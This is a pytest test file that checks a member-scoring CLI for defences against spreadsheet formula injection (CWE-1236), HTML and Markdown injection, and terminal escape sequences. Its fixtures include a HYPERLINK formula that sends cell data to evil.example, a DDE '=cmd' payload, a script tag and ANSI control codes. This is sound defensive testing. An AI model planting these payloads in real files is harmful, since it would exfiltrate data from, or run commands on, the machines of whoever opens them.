"""Files we write do not attack whoever opens them: no CSV or XLSX cell a spreadsheet would
evaluate (CWE-1236), HTML and Markdown escaped — with hostile member names, sectors, committees,
employers, notes, record and member ids, and a rule set whose title and labels are hostile, in
every format of ``score``, ``explain`` and ``compare``."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scoring.cli import main
from scoring.report.safe_cells import FORMULA_STARTS, append_row, csv_cell, csv_row, defused, xlsx_text

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NAME_MINUS = "-张三"
SCRIPT = "<script>alert(1)</script>"
MD_CELL = "a|b*c`d`"
TWO_LINES = '欧阳 "娜" & <b>Co</b>\n二行'
CMD = "=cmd|' /c calc'!A1"

MEMBERS = [
    # id, name, sector, committee, (activity) group, employer
    ("M001", LINK, "+经济界", "@经济委员会", "-经济界组", "-某某集团"),
    ("M002", NAME_MINUS, SCRIPT, MD_CELL, CMD, "=某某中学"),
    ("M003", TWO_LINES, "=1+1", "-2+3", "@SUM(A1:A9)", "+某某大学"),
    ("=M4", "+" + MD_CELL, "教育界", "", "教育界组", "某某"),
]
RECORDS = [
    # id, member, status, note
    ("R001", "M001", "出席", '=HYPERLINK("http://evil.example","n")'),
    ("R002", "M002", "无故缺席", "+note"),  # three unexcused absences: M002's total is 70 - 90 = -20
    ("R003", "M002", "无故缺席", ""),
    ("R004", "M002", "无故缺席", ""),
    ("-R5", "M003", "请假", "@note"),
    ("R006", "M999", "出席", ""),  # an unknown member: rejected (and said on stderr)
    ("=R7", "=M4", "出席", "-note"),
]
TITLE = "=HYPERLINK(\"http://evil.example/?t=\"&A1,\"标题\") <script>alert('t')</script> & \"q\" | *b* `c`"
OVERLAY = f"""schema_version = 1

[rule_set]
id = "hostile"
extends = "jinan-2015"
version = "1"
example = true
title = {{ zh = {json.dumps(TITLE, ensure_ascii=False)}, en = {json.dumps(TITLE.replace("标题", "title"))} }}

[ranking]
group_by = ["group"]  # activity groups reach the reports as peer-group names

[[notifications]]
id = "employers"
recipient = {{ zh = "=工作单位", en = "=employer" }}
send = "all"
per_member_field = "employer"  # employers reach the JSON result as recipients

[patch.categories.deductions]
label = {{ zh = "+扣分<i>", en = "+deductions<i>" }}

[patch.rules.plenary_unexcused]
label = {{ zh = "@无故缺席|`x`", en = "@absent|`x`" }}
cite = "-条款 <b>&"

[patch.gates.three_ones]
label = {{ zh = "=门槛", en = "=gate" }}

[patch.grades.competent]
label = {{ zh = "=1+1称职", en = "=1+1 competent" }}

[patch.grades.incompetent]
label = {{ zh = "-不称职*", en = "-incompetent*" }}

[patch.escalation.below60_year]
action_label = {{ zh = "@约谈", en = "@talk" }}
actor = {{ zh = "=召集人", en = "=convener" }}
cite = "+cite|x"
"""
HOSTILE_LABELS = ("+扣分<i>", "@无故缺席|`x`", "=门槛", "=1+1称职", "-不称职*", "@约谈", "=召集人", "+cite|x",
                  "-条款 <b>&")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Members and records files carrying hostile values, and a rule-set overlay with hostile labels."""
    folder = tmp_path_factory.mktemp("hostile")
    with (folder / "members.csv").open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["委员编号", "姓名", "界别", "专委会", "活动组", "工作单位", "身份", "任职日期", "届次"])
        for mid, name, sector, committee, group, employer in MEMBERS:
            w.writerow([mid, name, sector, committee, group, employer, "委员", "2022-01-10", "十五届"])
    with (folder / "records.csv").open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["记录编号", "委员编号", "类型", "子类", "状态", "日期", "备注"])
        for rid, member, status, note in RECORDS:
            w.writerow([rid, member, "会议", "全体会议", status, "2024-01-08", note])
    (folder / "hostile.toml").write_text(OVERLAY, encoding="utf-8")
    return {"members": str(folder / "members.csv"), "records": str(folder / "records.csv"),
            "rules": str(folder / "hostile.toml"), "dir": str(folder)}


def inputs(h: dict[str, str], rule_set: str | None = None) -> list[str]:
    return ["-r", rule_set or h["rules"], "-m", h["members"], "-d", h["records"], "--year", "2024"]


def run(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    code = main(list(args))
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "R006" in err and "M999" in err  # the rejected record is named, whatever the format
    return out


def evaluated(cell: str) -> bool:
    """True when a spreadsheet opening the CSV would run ``cell`` as a formula (a number such as
    -20 is a number, not a formula)."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        Decimal(cell)
    except InvalidOperation:
        return True
    return False


# -- CSV ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("lang", ["zh", "en"])
def test_no_csv_cell_is_a_formula(capsys: pytest.CaptureFixture[str], hostile: dict[str, str], lang: str) -> None:
    out = run(capsys, "score", *inputs(hostile), "-f", "csv", "--lang", lang)
    rows = list(csv.reader(io.StringIO(out)))
    assert [c for row in rows for c in row if evaluated(c)] == []
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["M001"][1:4] == ["'" + LINK, "'+经济界", "'@经济委员会"]  # shown as written, after the '
    assert by_id["M002"][1] == "'" + NAME_MINUS
    assert by_id["M002"][2] == SCRIPT and by_id["M002"][3] == MD_CELL  # nothing to defuse: as written
    assert by_id["M003"][1] == TWO_LINES and by_id["M003"][2:4] == ["'=1+1", "'-2+3"]
    assert "'=M4" in by_id  # an id is text too
    assert (by_id["M001"][9], by_id["M002"][9]) == ("'-经济界组", "'" + CMD)  # peer groups: activity groups
    assert by_id["M002"][5] == "-20"  # a negative total stays a number
    assert by_id["M002"][6].startswith("'-") and by_id["M001"][7].startswith("'=1+1")  # grade labels
    assert by_id["M002"][10].startswith("'=")  # the gate label
    assert by_id["M002"][11] == "'@" + ("约谈" if lang == "zh" else "talk")  # the warning's action


def test_a_csv_file_written_for_excel_is_defused_too(hostile: dict[str, str], tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "out.csv"
    run(capsys, "score", *inputs(hostile), "-o", str(path))
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == 1 + len(MEMBERS) and not [c for row in rows for c in row if evaluated(c)]


# -- XLSX --------------------------------------------------------------------------------------

@pytest.mark.parametrize("lang", ["zh", "en"])
def test_no_xlsx_cell_is_a_formula(capsys: pytest.CaptureFixture[str], hostile: dict[str, str], tmp_path: Path,
                                   lang: str) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "out.xlsx"
    run(capsys, "score", *inputs(hostile), "-o", str(path), "--lang", lang)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 5
        for name in sheets:
            assert not re.search(r"<f[ >]", archive.read(name).decode("utf-8")), name
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    labels = ("+扣分<i>", "@无故缺席|`x`", "-不称职*") if lang == "zh" else (
        "+deductions<i>", "@absent|`x`", "-incompetent*")
    for value in (LINK, NAME_MINUS, "+经济界", "@经济委员会", "=1+1", "-2+3", "=M4", "=R7", "-R5", "-经济界组", CMD,
                  *labels):
        cell = texts[value]  # the exact value, as text
        assert cell.data_type == "s" and cell.quotePrefix, value  # and marked: editing it keeps it text
    assert texts[SCRIPT].data_type == "s" and not texts[SCRIPT].quotePrefix
    scorecards = book.worksheets[0]
    headers = [c.value for c in scorecards[1]]
    assert labels[0] in headers  # a hostile category label heads a column
    totals = {row[0].value: row[headers.index("总分" if lang == "zh" else "total")] for row in scorecards.iter_rows(2)}
    assert totals["M002"].value == -20 and totals["M002"].data_type == "n"  # numbers stay numbers


def test_control_characters_do_not_fail_the_workbook() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    append_row(book.active, ["a\x1b[31mb\x07", "=\x00x", 5, None])
    buffer = io.BytesIO()
    book.save(buffer)
    back = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [c.value for c in back[1]][:3] == ["a\ufffd[31mb\ufffd", "=\ufffdx", 5]
    assert back["B1"].data_type == "s" and back["B1"].quotePrefix


# -- HTML and Markdown ---------------------------------------------------------------------------

def _no_raw_markup(text: str) -> None:
    assert "<script" not in text and "<b>" not in text and "<i>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


@pytest.mark.parametrize("command", ["score", "compare"])
def test_html_escapes_every_value(capsys: pytest.CaptureFixture[str], hostile: dict[str, str], command: str) -> None:
    extra = ["-V", "jinan-2015"] if command == "compare" else []
    out = run(capsys, command, *inputs(hostile), *extra, "-f", "html")
    _no_raw_markup(out)
    assert "&lt;script&gt;alert(&#x27;t&#x27;)&lt;/script&gt; &amp; &quot;q&quot;" in out  # the title
    if command == "score":
        assert "欧阳 &quot;娜&quot; &amp; &lt;b&gt;Co&lt;/b&gt;" in out


def _pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


@pytest.mark.parametrize("command", ["score", "compare"])
def test_markdown_escapes_every_value(capsys: pytest.CaptureFixture[str], hostile: dict[str, str],
                                      command: str) -> None:
    extra = ["-V", "jinan-2015"] if command == "compare" else []
    out = run(capsys, command, *inputs(hostile), *extra, "-f", "md")
    _no_raw_markup(out)
    lines = out.splitlines()
    for i, line in enumerate(lines):  # every row of a table has as many cells as its header
        if line.startswith("|") and (i == 0 or not lines[i - 1].startswith("|")):
            width = _pipes(line)
            for row in lines[i:]:
                if not row.startswith("|"):
                    break
                assert _pipes(row) == width, row
    assert r"\| \*b\* \`c\`" in out  # the title's | * `
    if command == "score":
        assert r"a\|b\*c\`d\`" in out and "&lt;/b&gt;<br>二行" in out  # a cell: | * ` and a line break


def test_a_lone_carriage_return_is_a_line_break_in_markdown() -> None:
    from scoring.report.as_markdown import md_escape

    assert md_escape("a\rb|c\r\nd") == r"a<br>b\|c<br>d"


def test_control_characters_are_shown_not_obeyed_on_a_terminal(capsys: pytest.CaptureFixture[str],
                                                               tmp_path: Path) -> None:
    hostile = "a\x1b[2J\x1b]0;pwned\x07b\rc"  # clear the screen, retitle the window, overwrite the line
    (tmp_path / "m.csv").write_text(f'委员编号,姓名,界别\nM1,"{hostile}",教育界\n', encoding="utf-8")
    (tmp_path / "r.csv").write_text("记录编号,委员编号,类型,子类,状态,日期\nR1,M1,会议,全体会议,出席,2024-01-08\n"
                                    "R\x1b[31m2,M\x1b9,会议,全体会议,出席,2024-01-08\n", encoding="utf-8")
    args = ["-r", "jinan-2015", "-m", str(tmp_path / "m.csv"), "-d", str(tmp_path / "r.csv"), "--year", "2024"]
    for command in (["score"], ["explain", "--member", "M1"]):
        assert main([*command, *args]) == 0
        out, err = capsys.readouterr()
        assert "a\ufffd[2J\ufffd]0;pwned\ufffdb" in out  # (a table cell shows the carriage return as a line break)
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out + err)
        assert "R\ufffd[31m2" in err and err.count("\n") == 1
    assert main(["score", *args, "-f", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["scorecards"][0]["member_name"] == hostile  # data stays data


# -- JSON, JSON Lines, tables, explain, compare ----------------------------------------------------

def test_json_and_jsonl_keep_hostile_values_exactly(capsys: pytest.CaptureFixture[str],
                                                    hostile: dict[str, str]) -> None:
    doc = json.loads(run(capsys, "score", *inputs(hostile), "-f", "json"))
    names = {c["member_id"]: c["member_name"] for c in doc["scorecards"]}
    assert names == {mid: name for mid, name, *_ in MEMBERS}
    recipients = {n["recipient"]["zh"] for n in doc["notifications"]}
    assert {f"=工作单位：{employer}" for *_, employer in MEMBERS} <= recipients
    for engine in ("batch", "reference"):
        out = run(capsys, "score", *inputs(hostile), "-f", "jsonl", "--engine", engine)
        lines = [json.loads(line) for line in out.splitlines()]
        assert {d["rank"]["group"] for d in lines} == {group for *_, group, _ in MEMBERS}


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_table_and_explain_show_hostile_values_as_text(capsys: pytest.CaptureFixture[str],
                                                       hostile: dict[str, str], lang: str) -> None:
    table = run(capsys, "score", *inputs(hostile), "--lang", lang)
    assert LINK in table and NAME_MINUS in table and SCRIPT in table
    explained = run(capsys, "explain", *inputs(hostile), "--member", "M002", "--lang", lang)
    assert NAME_MINUS in explained and ("@无故缺席|`x`" if lang == "zh" else "@absent|`x`") in explained
    card = json.loads(run(capsys, "explain", *inputs(hostile), "--member", "=M4", "-f", "json"))
    assert (card["member_id"], card["member_name"]) == ("=M4", "+" + MD_CELL)


@pytest.mark.parametrize("fmt", ["table", "json", "md", "html"])
def test_compare_with_a_hostile_base_and_variant(capsys: pytest.CaptureFixture[str], hostile: dict[str, str],
                                                 fmt: str) -> None:
    for base, variant in ((hostile["rules"], "jinan-2015"), ("jinan-2015", hostile["rules"])):
        out = run(capsys, "compare", *inputs(hostile, base), "-V", variant, "-f", fmt)
        if fmt == "json":
            doc: dict[str, Any] = json.loads(out)
            titles = {doc["base"]["title"]["zh"], doc["variants"][0]["variant"]["title"]["zh"]}
            assert TITLE in titles
        elif fmt in ("md", "html"):
            _no_raw_markup(out)
        else:
            assert "=1+1称职" in out


# -- the cells themselves (properties) --------------------------------------------------------------

@given(st.text())
def test_a_defused_csv_cell_is_never_evaluated_and_keeps_the_text(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == "'" + text
    assert defused(defused(text)) == defused(text)


@given(st.decimals(min_value=-10**9, max_value=10**9, places=6) | st.integers())
def test_numbers_stay_numbers(value: Decimal | int) -> None:
    cell = csv_row([value])[0]
    assert Decimal(cell) == value and not cell.startswith("'")


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_xlsx_text_cells_read_back_as_the_same_text_never_a_formula(texts: list[str]) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    append_row(book.active, texts)
    buffer = io.BytesIO()
    book.save(buffer)
    back = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = {c.column - 1: c for c in back[1]}  # an empty text leaves no cell behind
    for i, text in enumerate(texts):
        expected = xlsx_text(text).replace("\r\n", "\n").replace("\r", "\n")  # XML reads line ends as \n
        cell = cells.get(i)
        assert (cell.value if cell is not None else None) == (expected or None)
        assert cell is None or cell.data_type != "f"


def test_the_example_of_docs_hardening_runs() -> None:
    pytest.importorskip("openpyxl")
    doc = (Path(__file__).resolve().parents[1] / "docs" / "hardening.md").read_text(encoding="utf-8")
    block = doc.split("## Files we write", 1)[1].split("```python\n", 1)[1].split("```", 1)[0]
    namespace: dict[str, Any] = {}
    exec(compile(block, "docs/hardening.md", "exec"), namespace)
    assert [c.value for c in namespace["sheet"][1]] == ["=1+1", 5] and namespace["sheet"]["A1"].data_type == "s"
